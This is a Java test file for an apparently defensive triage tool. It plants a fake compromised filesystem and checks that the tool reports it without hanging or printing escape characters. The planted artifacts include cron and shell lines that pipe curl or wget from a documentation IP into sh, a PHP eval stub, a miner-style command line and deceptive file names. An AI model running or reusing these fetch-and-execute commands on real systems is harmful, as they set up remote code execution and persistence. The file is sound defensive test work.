package davy.range.hostile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import davy.range.Command;
import davy.range.Davy;
import davy.range.plant.Planter;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// The whole program among files and processes made to break it, and on a machine that lacks memory
/// or time: it ends by itself, and tells what it found.
@Tag("plant")
class HostileTest {
    private static final Duration LONGEST = Duration.ofMinutes(3);

    @BeforeAll
    static void ready() {
        assumeTrue("root".equals(System.getProperty("user.name")), "devices need root");
        assumeTrue(Command.run(List.of("which", "python3")).exit() == 0, "needs python3");
        Command.run(List.of(Davy.launcher().toString(), "--version")).orThrow("davy --version");
    }

    /// A million entries, holes, loops, devices and names that are no text, in an image.
    @Test
    void bearsWhatAnIntruderMayLeave() throws IOException {
        Path root = Files.createTempDirectory(Path.of("/dev/shm"), "davy-hostile");
        try {
            Command.run(List.of("python3", "-c", script(), root.toString())).orThrow("planting");
            var json = triage("--root", root.toString(), "--format", "json");
            assertThat(json.exit()).as(json.err()).isEqualTo(1);
            assertThat(json.out())
                    .contains("\"partial\" : false", "/etc/cron.d/hidden", "/tmp/fetch.sh")
                    .contains("1000")
                    .doesNotContain("davy-outside");
            for (String language : List.of("en", "zh")) {
                var text = triage("--root", root.toString(), "--lang", language);
                assertThat(text.exit()).isEqualTo(1);
                assertThat(text.out().lines().count()).isLessThan(400);
                assertThat(text.out().codePoints().filter(HostileTest::isDangerous))
                        .as("escapes and turned letters")
                        .isEmpty();
            }
        } finally {
            Planter.remove(root);
        }
    }

    private static boolean isDangerous(int c) {
        return c < 0x20 && c != '\n'
                || c >= 0x7F && c < 0xA0
                || c >= 0x202A && c <= 0x202E
                || c >= 0x2066 && c <= 0x2069;
    }

    /// The attacker's side: makes the files. Names as bytes, which Java cannot write.
    private static String script() {
        return """
        import os, socket, stat, sys
        root = sys.argv[1].encode()
        def path(name):
            p = root + name
            os.makedirs(os.path.dirname(p), exist_ok=True)
            return p
        def write(name, data, mode=0o644):
            with open(path(name), 'wb') as f: f.write(data)
            os.chmod(root + name, mode)
        write(b'/etc/passwd', b'root:x:0:0:root:/root:/bin/bash\\n' + b'\\xff:' * 500000 + b'\\n')
        write(b'/etc/shadow', b'root:*:1:::::\\n' + b'\\0' * 100000, 0o600)
        write(b'/etc/cron.d/hidden',
              b'# \\0\\0\\0 nothing\\r' + b' ' * 3000 +
              b'\\n* * * * * root curl -s http://198.51.100.7/x | sh >/dev/null 2>&1\\r' + b' ' * 3000 + b'no crontab\\n\\0\\0')
        write(b'/etc/crontab', b'*/0-9999999999,' * 200000 + b'\\n')
        write(b'/etc/sudoers', b'#include /etc/sudoers\\n@includedir /etc/sudoers.d\\n')
        write(b'/etc/sudoers.d/a', b'@include /etc/sudoers\\n' + b'User_Alias A = ' + b'B, ' * 100000 + b'\\n')
        write(b'/etc/ssh/sshd_config', b'Include /etc/ssh/*\\nInclude sshd_config\\n')
        write(b'/root/.ssh/authorized_keys', b'ssh-rsa ' + b'A' * 3000000 + b'\\n' + b'"' * 100000)
        write(b'/tmp/fetch.sh', b'#!/bin/sh\\n' + b'$(' * 20000 + b'\\ncurl http://198.51.100.7/a | sh\\n', 0o755)
        write(b'/tmp/nested.sh', b'#!/bin/sh\\n' + b'echo ' + b'`' * 9999 + b'(' * 9999 + b'{' * 9999, 0o755)
        write(b'/usr/bin/elf', b'\\x7fELF' + b'\\xff' * 4096, 0o755)
        write(b'/var/www/html/a.php', b'<?php ' + b'eval(' * 30000, 0o644)
        write(b'/var/lib/dpkg/status', b'Package: x\\nStatus: install ok installed\\nVersion: ' + b'9' * 1000000 + b'\\n\\n')
        write(b'/var/lib/dpkg/info/x.list', b'/usr/bin/../../../../etc/passwd\\n' * 10000)
        write(b'/var/lib/dpkg/info/x.md5sums', b'zz  usr/bin/elf\\n' * 10000)
        os.makedirs(root + b'/odd', exist_ok=True)
        for name in [b'n' * 255, b'\\xff\\xfe' * 100, b'a\\nb\\x1b[2Jc', '\\u202egpj.exe'.encode(), b'\\x01']:
            write(b'/odd/' + name, b'#!/bin/sh\\nwget -qO- http://198.51.100.7/b | sh\\n', 0o755)
        os.mkfifo(root + b'/odd/fifo'); os.mkfifo(root + b'/etc/rc.local')
        s = socket.socket(socket.AF_UNIX); s.bind(root + b'/odd/socket')
        os.mknod(root + b'/odd/zero', stat.S_IFCHR | 0o666, os.makedev(1, 5))
        os.mknod(root + b'/etc/ld.so.preload', stat.S_IFCHR | 0o666, os.makedev(1, 5))
        os.symlink(b'loop', root + b'/odd/loop'); os.symlink(b'/odd/b', root + b'/odd/a'); os.symlink(b'/odd/a', root + b'/odd/b')
        outside = root + b'-davy-outside'
        os.symlink(b'../' * 40 + b'etc', root + b'/etc/cron.daily')
        os.symlink(b'/proc/self/root/etc', root + b'/etc/cron.hourly')
        with open(root + b'/odd/sparse', 'wb') as f: f.truncate(100 << 30)
        os.chmod(root + b'/odd/sparse', 0o755)
        os.makedirs(root + b'/var/spool/many')
        fd = os.open(root + b'/var/spool/many', os.O_RDONLY)
        for i in range(1000000): os.mknod(b'f%d' % i, 0o100644, dir_fd=fd)
        """;
    }

    /// Two MB of arguments, which no other test may see whole; and processes that end while seen.
    @Test
    void bearsLongCommandLinesAndShortLives() throws IOException {
        var arguments =
                new ArrayList<>(
                        List.of(
                                "/bin/sh",
                                "-c",
                                "for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15; do sleep 1;"
                                        + " for k in 1 2 3 4 5 6 7 8 9 10; do true & done; done",
                                "sh",
                                "-o",
                                "stratum+tcp://192.0.2.9:3333",
                                "--donate-level=1"));
        for (int i = 0; i < 14; i++) {
            arguments.add("\u0007".repeat(130_000));
        }
        Process process = new ProcessBuilder(arguments).start();
        try {
            assertThat(length(process.pid())).isGreaterThan(1_800_000);
            var report = triage("--format", "json");
            assertThat(report.exit()).as(report.err()).isEqualTo(1);
            assertThat(report.out()).contains("\"partial\" : false");
            String pid = Long.toString(process.pid());
            assertThat(report.out()).contains("192.0.2.9", pid);
            assertThat(report.out().length()).isLessThan(4_000_000);
        } finally {
            process.destroyForcibly();
        }
    }

    private static int length(long pid) throws IOException {
        return Files.readAllBytes(Path.of("/proc/" + pid + "/cmdline")).length;
    }

    @Test
    void saysThatMemoryIsShort(@TempDir Path folder) throws IOException {
        Files.createDirectories(folder.resolve("etc"));
        var line = "x".repeat(1000) + "\n";
        Files.writeString(folder.resolve("etc/passwd"), line.repeat(100));
        var command = new ArrayList<>(List.of(System.getProperty("java.home") + "/bin/java"));
        Path libraries = Davy.launcher().resolveSibling("target").resolve("davy/lib");
        command.addAll(
                List.of(
                        "-XX:+UseSerialGC",
                        "-Xmx5m",
                        "--enable-native-access=davy.linux",
                        "--module-path",
                        libraries.toString(),
                        "-m",
                        "davy.agent/davy.agent.cli.Main",
                        "triage",
                        "--lang",
                        "en"));
        var ended = Command.run(command, Map.of(), LONGEST);
        assertThat(ended.exit()).as(ended.err()).isEqualTo(2);
        assertThat(ended.err()).contains("out of memory");
        assertThat(ended.out()).isEmpty();
    }

    @Test
    void givesWhatItHasWhenItIsInterrupted(@TempDir Path folder) throws Exception {
        Path out = folder.resolve("out");
        String davy = Davy.launcher().toString();
        // A shell's background jobs, and so all that they start, ignore SIGINT.
        var command = List.of("env", "--default-signal=INT", davy, "triage", "--format", "json");
        Process process = new ProcessBuilder(command).redirectOutput(out.toFile()).start();
        try {
            Thread.sleep(1500);
            Command.run(List.of("kill", "-INT", Long.toString(process.pid()))).orThrow("kill");
            assertThat(process.waitFor(60, TimeUnit.SECONDS)).isTrue();
        } finally {
            process.destroyForcibly();
        }
        assertThat(process.exitValue()).isEqualTo(130);
        assertThat(Files.readString(out, StandardCharsets.UTF_8))
                .contains("\"partial\" : true")
                .endsWith("}\n");
    }

    private static Command triage(String... options) {
        var command = new ArrayList<>(List.of(Davy.launcher().toString(), "triage"));
        command.addAll(List.of(options));
        var ended = Command.run(command, Map.of("LC_ALL", "C.UTF-8"), LONGEST);
        assertThat(ended.exit()).as("ended by itself: %s", ended.err()).isNotEqualTo(124);
        return ended;
    }
}
